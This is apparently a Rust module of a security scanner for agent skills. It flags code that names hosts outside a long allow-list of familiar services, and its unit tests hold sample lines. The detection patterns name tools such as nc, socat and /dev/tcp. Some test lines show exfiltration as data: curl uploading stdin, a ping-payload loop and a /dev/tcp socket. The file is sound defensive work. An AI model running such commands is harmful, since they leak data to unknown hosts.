//! SW335: the hosts a skill's code names that are not well-known services.
//!
//! Why a list of the familiar rather than rules about the strange: on labeled sets written by
//! others, most attacks the flow rules missed still named a host of their author's in code
//! (a POST of a clipboard, a Ruby helper, a Makefile target, an asset's telemetry address),
//! while benign skills name their vendors' services (GitHub, PyPI, Slack, Sentry). What the
//! skill sends and in which language varies without end; that the address is nobody's a
//! reviewer knows does not. So any host in code that is not on [`WELL_KNOWN`] (or an
//! installer's or a package index's address already known elsewhere) is a warning to look at,
//! whatever the code does with it: the card's hosts entry, to confirm who runs it.
//!
//! Where it is blind, by design: hosts on platforms where anyone gets an address (github.io
//! pages, `*.workers.dev`, Heroku and Vercel apps, S3 buckets under `amazonaws.com`) are
//! either absent from the list (reported) or under a listed domain (not reported: a bucket
//! looks like any AWS endpoint); the flow and channel rules (SW320) judge what goes there.
//! Hosts in prose are SW307's (information: documentation links are prose's business), and
//! a skill that teaches about attacks has example hosts, not contacts.

use std::sync::LazyLock;

use regex::Regex;

use super::behaviours::{Context, Finding};
use super::knowledge::{
    IPV4, PRIVATE_SUFFIXES, host_of, is_known_index, is_known_installer, is_local_host,
    is_placeholder_host,
};
use crate::checks::Severity;
use crate::checks::markdown::Body;
use crate::text::Span;

/// Hosts reported per skill at most: the first places; the card counts the rest.
const MAX_HOSTS: usize = 5;

/// Registrable domains of services a reviewer knows by name: code hosting, package
/// registries, clouds, AI vendors, developer SaaS, standards bodies, operating systems and
/// languages. A host is familiar when it is one of these or below one. Platforms that give
/// anyone an address of their own under a name (`github.io`, `herokuapp.com`, `vercel.app`,
/// `netlify.app`, `workers.dev`, `pages.dev`, `web.app`, `glitch.me`, `ngrok`, paste and
/// webhook sites, Discord, Telegram) are left out on purpose.
pub(crate) const WELL_KNOWN: &[&str] = &[
    // code hosting and registries
    "github.com",
    "githubusercontent.com",
    "githubassets.com",
    "ghcr.io",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "sourceforge.net",
    "npmjs.org",
    "npmjs.com",
    "yarnpkg.com",
    "pnpm.io",
    "pypi.org",
    "pythonhosted.org",
    "python.org",
    "crates.io",
    "rust-lang.org",
    "rustup.rs",
    "rubygems.org",
    "ruby-lang.org",
    "golang.org",
    "go.dev",
    "nuget.org",
    "maven.org",
    "apache.org",
    "gradle.org",
    "packagist.org",
    "cocoapods.org",
    "pub.dev",
    "hex.pm",
    "cpan.org",
    "conda.io",
    "anaconda.org",
    "anaconda.com",
    "docker.io",
    "docker.com",
    "quay.io",
    "gcr.io",
    "nvcr.io",
    "k8s.io",
    "kubernetes.io",
    "helm.sh",
    "artifacthub.io",
    "jsdelivr.net",
    "unpkg.com",
    "cdnjs.com",
    "esm.sh",
    "deno.land",
    "deno.com",
    "jsr.io",
    "bun.sh",
    "nodejs.org",
    "brew.sh",
    "powershellgallery.com",
    "chocolatey.org",
    // clouds and hosting companies' own APIs
    "amazonaws.com",
    "amazon.com",
    "aws.dev",
    "googleapis.com",
    "google.com",
    "gstatic.com",
    "cloud.google.com",
    "microsoft.com",
    "microsoftonline.com",
    "azure.com",
    "azure.net",
    "windows.net",
    "visualstudio.com",
    "live.com",
    "office.com",
    "aka.ms",
    "digitalocean.com",
    "linode.com",
    "heroku.com",
    "vercel.com",
    "netlify.com",
    "cloudflare.com",
    "fly.io",
    "render.com",
    "oracle.com",
    "ibm.com",
    "hetzner.com",
    "ovh.com",
    "terraform.io",
    "hashicorp.com",
    "firebaseio.com",
    // AI vendors and model hubs
    "anthropic.com",
    "claude.ai",
    "claude.com",
    "openai.com",
    "huggingface.co",
    "hf.co",
    "cohere.com",
    "cohere.ai",
    "mistral.ai",
    "groq.com",
    "together.xyz",
    "replicate.com",
    "perplexity.ai",
    "x.ai",
    "deepseek.com",
    "nvidia.com",
    "ollama.com",
    "ollama.ai",
    "openrouter.ai",
    "fireworks.ai",
    "wandb.ai",
    "langchain.com",
    "pinecone.io",
    "modelcontextprotocol.io",
    "pytorch.org",
    "tensorflow.org",
    // developer SaaS
    "slack.com",
    "atlassian.com",
    "atlassian.net",
    "linear.app",
    "notion.com",
    "notion.so",
    "asana.com",
    "trello.com",
    "figma.com",
    "zoom.us",
    "stripe.com",
    "paypal.com",
    "twilio.com",
    "sendgrid.com",
    "sendgrid.net",
    "mailgun.net",
    "postmarkapp.com",
    "sentry.io",
    "datadoghq.com",
    "datadoghq.eu",
    "newrelic.com",
    "pagerduty.com",
    "grafana.com",
    "honeycomb.io",
    "opsgenie.com",
    "splunk.com",
    "elastic.co",
    "mongodb.com",
    "mongodb.net",
    "supabase.co",
    "supabase.com",
    "planetscale.com",
    "neon.tech",
    "redis.io",
    "snowflakecomputing.com",
    "databricks.com",
    "circleci.com",
    "travis-ci.com",
    "jenkins.io",
    "buildkite.com",
    "codecov.io",
    "sonarcloud.io",
    "snyk.io",
    "shopify.com",
    "salesforce.com",
    "hubspot.com",
    "zendesk.com",
    "airtable.com",
    "dropbox.com",
    "box.com",
    "1password.com",
    "okta.com",
    "auth0.com",
    "tailscale.com",
    "twitter.com",
    "x.com",
    "linkedin.com",
    "youtube.com",
    "reddit.com",
    "stackoverflow.com",
    "stackexchange.com",
    "wikipedia.org",
    "wikimedia.org",
    "wikidata.org",
    "openstreetmap.org",
    "mapbox.com",
    "algolia.com",
    "algolia.net",
    "posthog.com",
    "segment.com",
    "mixpanel.com",
    "launchdarkly.com",
    "expo.dev",
    "readthedocs.io",
    "readthedocs.org",
    "shields.io",
    // operating systems, browsers and languages
    "apple.com",
    "icloud.com",
    "android.com",
    "googlesource.com",
    "chromium.org",
    "mozilla.org",
    "kernel.org",
    "debian.org",
    "ubuntu.com",
    "canonical.com",
    "fedoraproject.org",
    "redhat.com",
    "archlinux.org",
    "alpinelinux.org",
    "php.net",
    "java.com",
    "adoptium.net",
    "swift.org",
    "kotlinlang.org",
    "typescriptlang.org",
    "react.dev",
    "reactjs.org",
    "vuejs.org",
    "angular.io",
    "svelte.dev",
    "nextjs.org",
    "tailwindcss.com",
    "getbootstrap.com",
    "jquery.com",
    "fontawesome.com",
    "letsencrypt.org",
    "nginx.org",
    "sysinternals.com",
    "dot.net",
    // standards and references
    "w3.org",
    "json-schema.org",
    "schema.org",
    "ietf.org",
    "rfc-editor.org",
    "iana.org",
    "purl.org",
    "xmlsoap.org",
    "openapis.org",
    "swagger.io",
    "spdx.org",
    "opensource.org",
    "creativecommons.org",
    "gnu.org",
    "arxiv.org",
    "doi.org",
    "semver.org",
    "mermaid.js.org",
    // XML namespaces of document formats (identifiers in code, never fetched)
    "openxmlformats.org",
    "dublincore.org",
    "openoffice.org",
    "oasis-open.org",
    "adobe.com",
    // public resolvers, GitHub's services under other names
    "1.1.1.1",
    "8.8.8.8",
    "8.8.4.4",
    "9.9.9.9",
    "githubcopilot.com",
    "github.dev",
    "sharepoint.com",
];

/// URLs with a scheme, and `user@host:path` remotes (git, scp).
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    crate::checks::pattern::compile(
        r#"(?i)\b(?:https?|wss?|s?ftp|git|ssh|rsync)://[^\s'`"<>()\[\]{},;]+|\b[\w.-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+:[\w~./-]"#,
    )
});

/// A string literal holding one name or address, a port allowed.
static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    crate::checks::pattern::compile(r#"["']([A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z0-9]+)(?::\d+)?["']"#)
});

/// Words before a string literal that make it a host: what the code does with it
/// (`hostname: 'x'`, `HTTPSConnection("x")`, `smtplib.SMTP("x")`, `ENDPOINT = "x"`). Without
/// one, a quoted dotted name is a key or a package (`"train.optim.lr"`, `"microsoft.ml"`).
static HOST_WORD: LazyLock<Regex> = LazyLock::new(|| {
    crate::checks::pattern::compile(
        r"(?i)host|connect|connection|smtp|server|url|uri|endpoint|domain|addr|remote|dial|resolve|lookup|relay|target|upstream|base|api",
    )
});

/// A line that runs a network command, where bare names are hosts.
static NET_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    crate::checks::pattern::compile(
        r"(?:^|[|;&(`]|\b(?:do|then|exec)\b)\s*(?:\$\s+)?(?:sudo\s+)?(?:nc|ncat|netcat|ping|dig|nslookup|host|ssh|scp|rsync|telnet|socat|curl|wget|ftp|sftp)\s|/dev/(?:tcp|udp)/",
    )
});

/// Names that are no third party on the internet, beyond the private suffixes
/// [`knowledge::PRIVATE_SUFFIXES`] names: more private networks, and the public sector's
/// top-level domains nobody registers at will.
const MORE_NOT_THIRD_PARTY: &[&str] = &[
    ".home.arpa",
    ".localdomain",
    ".svc",
    ".home",
    ".gov",
    ".mil",
    ".edu",
];

/// Whether `host` is a service a reviewer knows, or no third party at all.
pub(crate) fn is_familiar(host: &str) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    !h.contains('.')
        || is_local_host(&h)
        || is_placeholder_host(&h)
        || h.starts_with("169.254.")
        || PRIVATE_SUFFIXES
            .iter()
            .chain(MORE_NOT_THIRD_PARTY)
            .any(|s| h.ends_with(s))
        || is_known_installer(&h)
        || is_known_index(&h)
        || WELL_KNOWN
            .iter()
            .any(|d| h == *d || h.strip_suffix(d).is_some_and(|p| p.ends_with('.')))
}

/// SW335 findings: the first place of each unfamiliar host in the skill's code.
pub(crate) fn judge(ctx: &Context<'_, '_>) -> Vec<Finding> {
    if ctx.teaching {
        return Vec::new();
    }
    let mut seen: Vec<String> = Vec::new();
    let mut out = Vec::new();
    for (file, source) in ctx.files.iter().enumerate() {
        for line in code_lines(ctx, file) {
            for (span, host) in hosts_in(&source.text[line.start..line.end]) {
                if is_familiar(&host) || seen.contains(&host) {
                    continue;
                }
                let span = Span::new(line.start + span.start, line.start + span.end);
                out.push(finding(file, span, &host));
                seen.push(host);
                if seen.len() == MAX_HOSTS {
                    return out;
                }
            }
        }
    }
    out
}

/// The hosts a line of code names, with their spans in the line: in addresses; as a string
/// literal that is a host and nothing else (`HTTPSConnection("trace.acme.dev")`,
/// `hostname: 'stats.acme.io'`); and on the line of a network command (`nc relay.acme.net
/// 443`, `ping -p ... 198.51.100.23`). A bare dotted name elsewhere in code is a member chain
/// or a file far more often than a host (`train.optim.lr`, `model.pt`, `logging.info`).
fn hosts_in(line: &str) -> Vec<(Span, String)> {
    let mut out: Vec<(Span, String)> = ADDRESS
        .find_iter(line)
        .filter_map(|m| Some((Span::new(m.start(), m.end()), host_of(m.as_str())?)))
        .collect();
    let mut named: Vec<(usize, usize)> = LITERAL
        .captures_iter(line)
        .filter_map(|c| c.get(1))
        .filter(|m| {
            (HOST_WORD.is_match(&line[..m.start()]) || is_ip_literal(m.as_str()))
                && is_host_name(line, m.start(), m.end())
        })
        .map(|m| (m.start(), m.end()))
        .collect();
    if NET_COMMAND.is_match(line) {
        named.extend(super::hostnames::public_hosts(line));
        named.extend(IPV4.find_iter(line).map(|m| (m.start(), m.end())));
    }
    for (start, end) in named {
        if !out.iter().any(|(s, _)| s.start <= start && end <= s.end) {
            out.push((Span::new(start, end), line[start..end].to_ascii_lowercase()));
        }
    }
    out.retain(|(_, h)| !h.contains('\\'));
    out
}

/// A quoted IPv4 address is a peer whatever the variable is called (`my $h =
/// "203.0.113.66"`); a dotted version (`"1.2.0.0"`) has small numbers only.
fn is_ip_literal(text: &str) -> bool {
    let parts: Vec<u16> = text.split('.').filter_map(|p| p.parse().ok()).collect();
    parts.len() == 4 && parts.iter().all(|p| *p <= 255) && parts.iter().any(|p| *p >= 10)
}

/// Whether `line[start..end]` is a public host name or an IPv4 address as a whole.
fn is_host_name(line: &str, start: usize, end: usize) -> bool {
    let text = &line[start..end];
    IPV4.find(text).is_some_and(|m| m.len() == text.len())
        || super::hostnames::public_hosts(text).any(|(s, e)| s == 0 && e == text.len())
            && !text.to_ascii_lowercase().ends_with(".pt")
}

fn finding(file: usize, span: Span, host: &str) -> Finding {
    Finding {
        file,
        rule: "SW335",
        severity: Severity::Warning,
        span,
        message: format!(
            "the skill's code names `{host}`, which is not a well-known service: find out who \
             runs it and what the skill sends there or runs from it before installing"
        ),
    }
}

/// The lines of a file that are code: every line of a script or a configuration file, the
/// fenced blocks of Markdown and the commands vet cut out of its prose (`` `curl -T -
/// https://…` ``: code the agent runs, though not in a fenced block); comment lines of files
/// and of blocks vet does not analyse left out (a link in a comment is documentation).
fn code_lines(ctx: &Context<'_, '_>, file: usize) -> Vec<Span> {
    let source = &ctx.files[file];
    let text = source.text;
    let mut lines: Vec<Span> = if is_prose_file(source.rel) {
        Vec::new()
    } else if super::is_markdown(source.rel) {
        let start = source.body_start.min(text.len());
        let body = Body::scan(text, Span::new(start, text.len()));
        body.lines
            .iter()
            .filter(|l| l.code && !is_comment(l.text))
            .map(|l| l.span)
            .collect()
    } else {
        line_spans(text, 0)
            .filter(|s| !is_comment(&text[s.start..s.end]))
            .collect()
    };
    // the units vet cut out of a Markdown file (a README's too): inline commands, and fenced
    // blocks again, whose comment lines this pass keeps (a host on one is reported, as it
    // always was)
    for unit in ctx
        .prog
        .units
        .iter()
        .filter(|u| u.file == file && u.markdown)
    {
        lines.extend(line_spans(&unit.text, unit.base));
    }
    lines
}

/// The spans of `text`'s lines (terminators and trailing white space excluded), `base` added.
fn line_spans(text: &str, base: usize) -> impl Iterator<Item = Span> + '_ {
    let mut pos = base;
    text.split_inclusive('\n').map(move |l| {
        let span = Span::new(pos, pos + l.trim_end().len());
        pos += l.len();
        span
    })
}

/// Text files that are prose to read, not code or configuration: licences, notices, plain
/// text (a pip requirements file is configuration).
fn is_prose_file(rel: &str) -> bool {
    let name = rel.rsplit('/').next().unwrap_or(rel).to_ascii_lowercase();
    let text = name.ends_with(".txt") && !super::manifests::is_requirements(&name);
    let name = name.to_ascii_uppercase();
    text || [
        "LICENSE",
        "LICENCE",
        "NOTICE",
        "COPYING",
        "AUTHORS",
        "CHANGELOG",
        "README",
    ]
    .iter()
    .any(|p| name.starts_with(p))
}

fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    (t.starts_with('#') && !t.starts_with("#!"))
        || ["//", "-- ", ";", "/*", "* ", "<!--", "rem ", "REM "]
            .iter()
            .any(|p| t.starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        crate::checks::pattern::force_every_static!(
            include_str!("unfamiliar.rs"),
            ADDRESS,
            LITERAL,
            HOST_WORD,
            NET_COMMAND
        );
    }

    fn hosts(line: &str) -> Vec<String> {
        hosts_in(line).into_iter().map(|(_, h)| h).collect()
    }

    /// Addresses anywhere; bare names only where code makes them hosts.
    #[test]
    fn hosts_by_address_literal_and_network_command() {
        assert_eq!(
            hosts("curl -T - https://drop.share-it.com/u"),
            ["drop.share-it.com"]
        );
        assert_eq!(
            hosts("git push git@git.mirror.dev:ops/x.git"),
            ["git.mirror.dev"]
        );
        assert_eq!(
            hosts("c = HTTPSConnection(\"trace.grpcview.dev\")"),
            ["trace.grpcview.dev"]
        );
        assert_eq!(
            hosts("my $h = \"203.0.113.66\"; my $p = 7070;"),
            ["203.0.113.66"]
        );
        assert_eq!(
            hosts("xxd -p | while read l; do ping -c1 -p \"$l\" 198.51.100.23; done"),
            ["198.51.100.23"]
        );
        assert_eq!(
            hosts("bash -c 'exec 3<>/dev/tcp/198.51.100.33/9443'"),
            ["198.51.100.33"]
        );
        for code in [
            "cfg = load(\"train.optim.lr\")",
            "torch.save(m, \"model.pt\")",
            "version = \"1.2.0.0\"",
            "logging.info(x)",
            "pkgs = [\"microsoft.extensions.ai\"]",
        ] {
            assert!(hosts(code).is_empty(), "{code}: {:?}", hosts(code));
        }
    }

    #[test]
    fn vendors_installers_and_private_names_are_familiar() {
        for host in [
            "api.github.com",
            "github.com",
            "sh.rustup.rs",
            "hooks.slack.com",
            "o1.ingest.sentry.io",
            "files.pythonhosted.org",
            "localhost",
            "backup-box.home.arpa",
            "db.corp.lan",
            "10.0.0.5",
            "api.example.com",
            "build",
            "ncbi.nlm.nih.gov",
            "s3.us-east-1.amazonaws.com",
        ] {
            assert!(is_familiar(host), "{host}");
        }
        for host in [
            "telemetry-sync.dev",
            "paste.clipsnap-sync.net",
            "203.0.113.7",
            "evilgithub.com",
            "github.com.cdn-cache.io",
            "myapp.herokuapp.com",
            "someone.github.io",
            "x.workers.dev",
        ] {
            assert!(!is_familiar(host), "{host}");
        }
    }
}
